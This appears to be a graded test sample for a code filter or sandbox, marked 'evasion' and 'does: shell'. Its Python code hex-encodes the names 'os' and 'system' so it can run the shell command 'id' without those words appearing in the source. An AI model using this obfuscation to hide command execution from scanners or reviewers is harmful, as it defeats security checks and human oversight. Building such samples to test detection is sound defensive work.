# evasion: module and function names from bytes.fromhex
# grade: hard; does: shell
import importlib
o = importlib.import_module(bytes.fromhex("6f73").decode())
getattr(o, bytes.fromhex("73797374656d").decode())("id")
